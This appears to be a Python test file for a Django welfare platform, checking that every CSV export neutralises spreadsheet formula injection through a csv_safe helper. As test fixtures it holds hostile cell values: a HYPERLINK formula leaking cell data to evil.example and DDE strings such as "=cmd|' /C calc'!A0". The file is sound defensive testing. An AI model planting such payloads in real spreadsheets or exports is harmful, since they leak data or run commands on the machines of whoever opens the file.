"""CSV formula injection (OWASP "CSV Injection"): every spreadsheet export of the platform
writes its cells through ``welfare_net.csv_safe``, so a cell a spreadsheet would run as a
formula (one beginning with = + - @, a tab or a carriage return) is written as text.

Each export is fed a hostile value where staff or residents can type one; a code-level test
finds every export in the source and fails on one this file does not cover, or on a bare
``csv.writer``."""

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse

from projects.models import Area, StaffMember
from projects.resources import COLUMNS
from residents.models import PersonalDataAccess
from residents.services import personal_data_access_record
from tests.factories import (
    DistrictFactory,
    NeighbourhoodFactory,
    ProjectFactory,
    StaffMemberFactory,
    SupportApplicationFactory,
    UserFactory,
)
from welfare_net import csv_safe

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
HOSTILE_STARTS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]


def read(response: object) -> list[list[str]]:
    content: bytes = response.content  # type: ignore[attr-defined]
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def no_formula_cell(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(csv_safe.FORMULA_STARTS), (cell, row)


# --- the helper ---------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE_STARTS)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(value: str) -> None:
    assert csv_safe.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", [12, -5, 3.5, -0.25, Decimal("-12.50"), "-5", "-3.5", "+82"])
def test_numbers_stay_numbers(value: object) -> None:
    assert csv_safe.neutralise(value) == value


@pytest.mark.parametrize("value", ["반찬 나눔", "a=b", "", "'=already quoted", None])
def test_ordinary_text_is_left_alone(value: object) -> None:
    assert csv_safe.neutralise(value) == value


def test_the_writer_neutralises_every_cell_of_every_row() -> None:
    out = io.StringIO()
    csv_safe.writer(out).writerows([[HOSTILE, -5], ["ok", "@x"]])

    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'" + HOSTILE, "-5"],
        ["ok", "'@x"],
    ]


# --- every export, fed a hostile value ------------------------------------------------------


@pytest.mark.django_db
def test_the_project_export_writes_a_hostile_title_as_text(client: Client) -> None:
    member = StaffMemberFactory.create()
    ProjectFactory.create(
        district=member.district,
        title=HOSTILE,
        description="@SUM(1+1)*cmd|' /C calc'!A0",
        contact_name="-2+3",
    )
    client.force_login(member.user)
    data = {"format": "0", "resource": "0"} | {f"projectresource_{c}": "on" for c in COLUMNS}

    response = client.post(reverse("admin:projects_project_export"), data)

    assert response.status_code == 200
    rows = read(response)
    no_formula_cell(rows)
    header = rows[0]
    project = dict(zip(header, rows[1], strict=True))
    assert project["title"] == "'" + HOSTILE
    assert project["capacity"] == "10"  # numbers stay numbers


@pytest.mark.django_db
def test_a_reimported_export_keeps_the_title_it_had(client: Client) -> None:
    """The apostrophe is the export's, not the title's: importing the file back does not add
    one to the project's title."""
    from tests.projects.test_resources import _confirm, _upload

    member = StaffMemberFactory.create()
    project = ProjectFactory.create(district=member.district, title=HOSTILE)
    client.force_login(member.user)
    data = {"format": "0", "resource": "0"} | {f"projectresource_{c}": "on" for c in COLUMNS}
    exported = client.post(reverse("admin:projects_project_export"), data)

    done = _confirm(client, _upload(client, exported.content.decode("utf-8-sig")))

    assert done.status_code == 302
    project.refresh_from_db()
    assert project.title == HOSTILE


@pytest.mark.django_db
@pytest.mark.postgres
def test_the_impact_report_writes_a_hostile_neighbourhood_name_as_text(client: Client) -> None:
    district = DistrictFactory.create()
    home = NeighbourhoodFactory.create(district=district, name="=cmd|' /C calc'!A0")
    SupportApplicationFactory.create(neighbourhood=home, areas=[Area.HEALTH])
    client.force_login(StaffMemberFactory.create(district=district).user)
    today = dt.date.today()

    response = client.get(
        "/impact/report/",
        {"from": f"{today.year}-01-01", "to": f"{today.year}-12-31", "format": "csv"},
    )

    assert response.status_code == 200
    rows = read(response)
    no_formula_cell(rows)
    assert any(row[1] == "'=cmd|' /C calc'!A0" for row in rows)


@pytest.mark.django_db
def test_the_access_log_export_writes_a_hostile_username_as_text(client: Client) -> None:
    member = StaffMemberFactory.create(user__username="@staff+1", role=StaffMember.Role.STAFF)
    resident = UserFactory.create(username="=HYPERLINK(1)")
    access = personal_data_access_record(
        viewer=member.user,
        subject_user=resident,
        view_name="-page",
        reason=PersonalDataAccess.Reason.OTHER,
    )
    client.force_login(UserFactory.create(is_staff=True, is_superuser=True))

    response = client.post(
        reverse("admin:residents_personaldataaccess_changelist"),
        {"action": "export_accesses_csv", "_selected_action": [access.pk]},
    )

    assert response.status_code == 200
    rows = read(response)
    no_formula_cell(rows)
    assert rows[1][1:3] == ["'@staff+1", "'=HYPERLINK(1)"]
    assert rows[1][5] == "'-page"


# --- the code: no export outside the helper, none untested ----------------------------------

SOURCE_DIRS = [
    "welfare_net",
    "residents",
    "projects",
    "donations",
    "talents",
    "surveys",
    "matching",
    "impact",
    "privacy",
    "visitors",
    "benchmarks",
]
# The modules that write a spreadsheet export, each with its hostile-value test above.
EXPORTS_TESTED = {
    "projects/admin.py": "test_the_project_export_writes_a_hostile_title_as_text",
    "projects/resources.py": "test_the_project_export_writes_a_hostile_title_as_text",
    "impact/views.py": "test_the_impact_report_writes_a_hostile_neighbourhood_name_as_text",
    "residents/admin.py": "test_the_access_log_export_writes_a_hostile_username_as_text",
}
# Writers that are not spreadsheet exports: no one opens them in a spreadsheet program.
BARE_WRITER_ALLOWED = {
    "welfare_net/csv_safe.py": "the helper itself",
    "benchmarks/impact.py": "rows for PostgreSQL's COPY, never opened in a spreadsheet",
}
BARE_WRITER = re.compile(r"\bcsv\s*\.\s*(writer|DictWriter)\b|from\s+csv\s+import")
EXPORT_SIGNS = re.compile(
    r"text/csv|export_formats\s*=|\.xlsx|application/vnd\.|csv_safe\.(writer|attachment|neutralise)"
)


def source_files() -> list[Path]:
    return [
        path
        for folder in SOURCE_DIRS
        for path in sorted((ROOT / folder).rglob("*.py"))
        if "migrations" not in path.parts
    ]


def test_no_module_writes_csv_with_a_bare_csv_writer() -> None:
    bare = [
        str(path.relative_to(ROOT))
        for path in source_files()
        if BARE_WRITER.search(path.read_text())
        and str(path.relative_to(ROOT)) not in BARE_WRITER_ALLOWED
    ]

    assert bare == [], "write CSV through welfare_net.csv_safe.writer"


def test_every_export_in_the_source_is_fed_a_hostile_value_here() -> None:
    exports = {
        str(path.relative_to(ROOT))
        for path in source_files()
        if EXPORT_SIGNS.search(path.read_text()) and path.name != "csv_safe.py"
    }

    assert exports == set(EXPORTS_TESTED)
    assert all(name in globals() for name in EXPORTS_TESTED.values())
